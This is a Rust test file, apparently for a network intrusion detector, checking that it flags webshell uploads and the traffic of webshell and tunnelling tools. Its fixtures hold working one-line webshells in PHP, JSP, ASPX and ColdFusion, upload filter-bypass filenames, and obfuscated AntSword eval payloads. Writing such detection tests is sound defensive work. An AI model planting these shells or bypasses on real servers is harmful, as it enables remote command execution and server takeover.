//! Webshells put on servers, and driven.

use crate::messages::{SHELL, answer, base64, chunked, file, form, get, noise, percent, post, request, upload, zipped};
use crate::table::{NOTHING, Table, WEBSHELL, Way};

#[test]
fn scripts_are_put_there_in_every_way() {
    let mut table = Table::default();
    let saved = answer("text/html", b"saved");
    for disposition in [
        "form-data; name=\"f\"; filename=\"a.php\"",
        "form-data; name=f; filename=a.php",
        "form-data; name='f'; filename='a.php'",
        "form-data; name=\"f\"; filename=\"a.jpg\"; filename=\"a.php\"",
        "form-data; name=\"f\"; filename==\"a.php\"",
        "form-data; name=\"f\"; filename*=UTF-8''a%2Ephp",
        "form-data; name=\"f\"; filename=\"a.jpg\"; filename*=UTF-8''a.php",
        "form-data; name=\"f\";\r\n filename=\"a.php\"",
        "form-data; name=\"f\"; filename=\"x\\\".php\"",
    ] {
        table.web(disposition, WEBSHELL, None, &upload(disposition, SHELL), &saved);
    }
    for name in
        ["a.php.jpg", "a.asp;.jpg", "a.phtml", "a.pHp", "a.php.", "a.php%00.jpg", "a.php::$DATA", "a.php/.", "../../a.php5", "a.phar"]
    {
        table.web(name, WEBSHELL, None, &file(name, SHELL), &saved);
    }
    let picture = [b"\xff\xd8\xff\xe0".to_vec(), noise(20_000), SHELL.to_vec()].concat();
    table.web("behind a picture of 20,000 bytes", WEBSHELL, None, &file("a.php", &picture), &saved);
    table.web("chunked", WEBSHELL, None, &chunked(&file("a.php", SHELL), 7), &saved);
    table.web("under gzip", WEBSHELL, None, &zipped(&file("a.php", SHELL)), &saved);
    table.web("chunked and under gzip", WEBSHELL, None, &chunked(&zipped(&file("a.php", SHELL)), 5), &saved);
    for (name, content) in [
        ("a.php", &b"<?=`$_GET[0]`;"[..]),
        ("a.php", b"<? system($_REQUEST['c']); ?>"),
        ("a.php", b"<?php $f=base64_decode('c3lzdGVt'); $f($_GET['c']);"),
        ("a.php", b"<?php extract($_POST); eval($c);"),
        ("a.php", b"<?php parse_str($_SERVER['QUERY_STRING']); system($c);"),
        ("a.php", b"<?php eval(getenv('HTTP_CODE'));"),
        ("a.jsp", b"<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>"),
        ("a.jspx", b"<jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter(\"c\"));</jsp:scriptlet>"),
        ("a.jsp", b"${Runtime.getRuntime().exec(param.c)}"),
        ("a.aspx", b"<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"p\"],\"unsafe\");%>"),
        ("a.asp", b"<%ExecuteGlobal request(\"a\")%>"),
        ("a.ashx", b"<%@ WebHandler Class=\"H\" %> public void P(C c){ System.Diagnostics.Process.Start(\"cmd\", c.Request[\"c\"]); }"),
        ("a.cfm", b"<cfexecute name=\"cmd.exe\" arguments=\"/c #url.c#\"></cfexecute>"),
        (".htaccess", b"SetHandler application/x-httpd-php"),
    ] {
        table.web(&String::from_utf8_lossy(content), WEBSHELL, None, &file(name, content), &saved);
    }
    let target = "PUT /x.jsp/";
    table.web(target, WEBSHELL, None, &request(target, "", b"<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>"), &saved);
    table.add(
        "PUT and MOVE",
        Way::In,
        80,
        WEBSHELL,
        None,
        &[
            (true, &request("PUT /dav/a.txt", "", SHELL)),
            (false, &saved),
            (true, &request("MOVE /dav/a.txt", "Destination: http://www.example.cn/dav/a.php\r\n", b"")),
            (false, &saved),
        ],
    );
    let body = format!("{{\"filename\":\"a.php\",\"content\":\"{}\"}}", base64(SHELL));
    table.web("base64 in JSON", WEBSHELL, None, &post("/api", "application/json", body.as_bytes()), &saved);
    let body = "{\"Url\":\"http://f/<script runat=\\\"server\\\">function Page_Load(){eval(Request[\\\"c\\\"],\\\"unsafe\\\");}</script>\",\"FilePathName\":\"\\\\\\\\h\\\\c$\\\\z.aspx\"}";
    table.web("escaped in JSON", WEBSHELL, None, &post("/ecp/a.svc/SetObject", "application/json", body.as_bytes()), &saved);
    table.check();
}

#[test]
fn tools_drive_their_shells() {
    let mut table = Table::default();
    let code = "@ini_set(\"display_errors\", \"0\");@set_time_limit(0);function asenc($out){return $out;};function asoutput(){echo \"a1b2c\".\"d3e4f\";}ob_start();asoutput();die();";
    let output = answer("text/html", b"a1b2cd3e4f/var/www/html1122344556");
    let sword = Some("antsword");
    table.web("antsword", WEBSHELL, sword, &form("/a.php", &format!("ant={}", percent(code))), &output);
    let by_word = format!("ant={}&username={}", percent("@eval(@base64_decode($_POST['username']));"), percent(&base64(code.as_bytes())));
    table.web("antsword with a word for a name", WEBSHELL, sword, &form("/a.php", &by_word), &output);
    table.web("antsword in chunks of three", WEBSHELL, sword, &chunked(&form("/a.php", &by_word), 3), &output);
    let spelled: Vec<String> = code.bytes().map(|byte| format!("cHr(0x{byte:x})")).collect();
    table.web(
        "antsword, chr16",
        WEBSHELL,
        sword,
        &form("/a.php", &format!("ant={}", percent(&format!("@eVAl({});", spelled.join("."))))),
        &output,
    );
    let turned: String = code
        .chars()
        .map(|letter| match letter {
            'a'..='m' | 'A'..='M' => char::from(letter as u8 + 13),
            'n'..='z' | 'N'..='Z' => char::from(letter as u8 - 13),
            other => other,
        })
        .collect();
    let body = format!("ant={}&k803c0c48={}", percent("@eval(@str_rot13($_POST['k803c0c48']));"), percent(&turned));
    table.web("antsword, rot13", WEBSHELL, sword, &form("/a.php", &body), &output);
    let parts = format!("--B\r\nContent-Disposition: form-data; name=\"ant\"\r\n\r\n{code}\r\n--B--\r\n");
    table.web("antsword, multipart", WEBSHELL, sword, &post("/a.php", "multipart/form-data; boundary=B", parts.as_bytes()), &output);
    // Behinder 4 under its default key: AES-128 in blocks of `assert|eval(base64_decode('` and more, and the same without it where it is wrapped.
    let behinder = "3Mn1yNMtoZViV5wotQHPJm7cRWHP6PMjLILVEpbUrN5WygKtUlR1wc6m8iE0QldY";
    let back = answer("text/html", b"mAUYLzmqn5QPDkyI5lvSp0fjiBu1e7047YjfczwY6j707eSlJOR++rc2CLjN5Ka6");
    table.web("behinder", WEBSHELL, Some("behinder"), &form("/a.php", behinder), &back);
    table.web("behinder with magic behind it", WEBSHELL, Some("behinder"), &form("/a.php", &format!("{behinder}\u{1}\u{2}ab")), &back);
    let json = format!("{{\"id\":\"1\",\"body\":{{\"user\":\"{}\"}}}}", behinder.replace('+', "<").replace('/', ">"));
    table.web("behinder in JSON", WEBSHELL, Some("behinder"), &post("/a.php", "application/json", json.as_bytes()), &back);
    let echo: Vec<u8> = b"abcdefghijklmnopqrstuvwxyz0123456789".repeat(3);
    let first = post("/s.jsp", "application/plain", &echo);
    table.web("suo5 asks whether a stream goes both ways", WEBSHELL, Some("suo5"), &first, &answer("text/html", &echo[..32]));
    let masked = map(&[("ac", b"\0"), ("h", b"10.0.0.7"), ("p", b"3389")]);
    table.web(
        "suo5",
        WEBSHELL,
        Some("suo5"),
        &post("/s.jsp", "application/octet-stream", &masked),
        &answer("text/html", &map(&[("ac", b"\x03"), ("s", b"\0")])),
    );
    // Weevely's head and tail around base64, in what is sent and in what comes back.
    let sent = format!("aB1d41d8cd98f00{}b204e9800998Zx", base64(&noise(90)).replace('=', ""));
    let told = format!("d41d8cd98f00{}b204e9800998", base64(&noise(60)).replace('=', ""));
    table.web("weevely", WEBSHELL, Some("weevely"), &form("/a.php", &sent), &answer("text/html", told.as_bytes()));
    let keyed = [b"HTTP/1.1 200 OK\r\nSet-Cookie: PHPSESSID=1\r\nContent-Length: 16\r\n\r\n".as_slice(), b"0a1b2c3d4e5f6071"].concat();
    table.web("a token alone is none", &["webshell_suspect"], None, &get("/a.php?pass=645"), &keyed);
    table.web("a token without a session is nothing", NOTHING, None, &get("/a.php?pass=645"), &answer("text/html", b"0a1b2c3d4e5f6071"));
    table.check();
}

/// A map as suo5's first versions send it: length, key, and entries under exclusive or.
fn map(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut bytes = Vec::new();
    for (name, value) in entries {
        bytes.push(name.len() as u8);
        bytes.extend(name.as_bytes());
        bytes.extend((value.len() as u32).to_be_bytes());
        bytes.extend(*value);
    }
    let key = bytes[bytes.len() / 2] | 1;
    [&(bytes.len() as u32).to_be_bytes()[..], &[key], &bytes.iter().map(|byte| byte ^ key).collect::<Vec<u8>>()].concat()
}

/// An answer with a field of its own.
fn answer_with(field: &str, body: &[u8]) -> Vec<u8> {
    [format!("HTTP/1.1 200 OK\r\n{field}\r\nContent-Length: {}\r\n\r\n", body.len()).as_bytes(), body].concat()
}

#[test]
fn tunnels_under_a_key_of_their_own() {
    let mut table = Table::default();
    // Neo-reGeorg under the key `Tr0ub4dor&3`: an order to connect and one to read of version 5, then of version 3, as the project's functions write
    // them.
    let plain = |target: &str, body: &str| request(&format!("POST {target}"), "", body.as_bytes());
    let connect = "Fts6Vzpuvua0sR2wpB1dOClBiXskainbuHZk38C6Wh/Qqdq3uHZkQRBLIr99GS9/ccdKCkCnRmqKuHZk3W8ONmFTHbvdtJs6VAhsHsA/VJs6Vzmg/GXQGLKuDvAyxi7PpEheOPW3";
    let done = "Fts6Vz6q58WE0/0fHv2frRsrWqqesUnuWMwguHZkQOkyyRybiyUuKidSrVD7J/z9/A==";
    let read = "Fts6VzF2X53ALVTV8Nd/AqlesUnVShRtyFHesUnRckM/0XXLygX9GSnindzcCbeesUnqso9hh8ZD5snXQgF=";
    let data = "tts6VA065O8esUnnFOFF8OoqFFF5CFFbFFAFFAFFFFFesUnqlBSAvN5G2yb+Dn8guHZk8HPi9Vt6uhwiVy9O";
    let text = |body: &str| answer("text/html", body.as_bytes());
    let said: [(bool, &[u8]); 4] =
        [(true, &plain("/t.php", connect)), (false, &text(done)), (true, &plain("/t.php", read)), (false, &text(data))];
    table.add("neo-regeorg 5", Way::In, 80, WEBSHELL, Some("regeorg"), &said);
    table.add("neo-regeorg 5, asked once", Way::In, 80, &["webshell_suspect"], Some("regeorg"), &said[..2]);
    let by_field = |order: &str| request("GET /t.jsp", &format!("Fsprikjudkxjv: PyuMHppNTnuhwl1uf4CavA{order}\r\n"), b"");
    let ok = answer_with("Mhqxawku: ClWoSeAkDIV1xikZPgLzoXOTm0WQbu9O5yB2HonM3gnyOLZ4grQJZ3R2O68A6", b"");
    let back = answer_with("Mhqxawku: ClWoSeAkDIV1xikZPgLzoXOTm0WQbu9O5yB2HonM3gnyOLZ4grQJZ3R2O68A6", b"Ge7uGXAtZDWzG0GAOy==");
    let said: [(bool, &[u8]); 4] =
        [(true, &by_field("4SxDN5LDn2JPNkM")), (false, &ok), (true, &by_field("9x1DWNknEqy6UezAX")), (false, &back)];
    table.add("neo-regeorg 3", Way::In, 80, WEBSHELL, Some("regeorg"), &said);
    let token = |token: &str| request("GET /list.jsp", &format!("Token: {token}\r\n"), b"");
    let session = answer_with("Session: 8f14e45fceea167a5a36dedd4bea2543", b"[]");
    for (name, value) in
        [("a digest", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b"), ("a token", "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9abcdefgh")]
    {
        table.add(name, Way::In, 80, NOTHING, None, &[(true, &token(value)), (false, &session), (true, &token(value)), (false, &session)]);
    }
    let api = |body: &str| request("POST /api.php", "", body.as_bytes());
    let json = ["{\"action\":\"list\",\"page\":1,\"size\":20,\"q\":\"\"}", "{\"action\":\"view\",\"page\":2,\"size\":20,\"q\":\"\"}"];
    let said: Vec<(bool, Vec<u8>)> = json
        .iter()
        .flat_map(|text| [(true, api(&base64(text.as_bytes()))), (false, answer("text/plain", base64(text.as_bytes()).as_bytes()))])
        .collect();
    let said: Vec<(bool, &[u8])> = said.iter().map(|(by_client, bytes)| (*by_client, &bytes[..])).collect();
    table.add("JSON in base64", Way::In, 80, NOTHING, None, &said);
    table.check();
}
